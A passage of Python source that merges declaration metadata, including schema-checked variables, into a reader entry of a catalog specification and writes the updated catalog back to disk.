    if not isinstance(target, str) or not isinstance(spec["entries"].get(target), Mapping):
        raise CatalogError(
            f"catalog {str(cat_path)!r}: {_r(entry)} is not a reader entry (it is "
            f"{_r(spec['entries'].get(target, target))}); declare the reader entry it "
            "points at"
        )
    record = dict(spec["entries"][target])
    metadata = record.get("metadata")
    metadata = dict(metadata) if isinstance(metadata, Mapping) else {}
    old = metadata.get(DECLARATION_KEY)
    declaration = dict(old) if isinstance(old, Mapping) else {}
    if "variables" in given and isinstance(declaration.get("variables"), Mapping):
        given["variables"] = {**declaration["variables"], **given["variables"]}
    declaration.update(given)
    if declaration.get("schema") in SCHEMAS and isinstance(declaration.get("variables"),
                                                            Mapping):
        make_declaration(declaration["variables"], schema=declaration["schema"], where=where)
    metadata[DECLARATION_KEY] = declaration
    record["metadata"] = metadata
    spec["entries"][target] = record
    _check_declared_entry(cat_path, spec, target,
                          f"cannot declare {declaration!r} for entry {_r(target)}",
                          trusted=trusted, allow_outside=allow_outside, allow_env=allow_env)
    _write_spec(cat_path, spec)
    return declaration
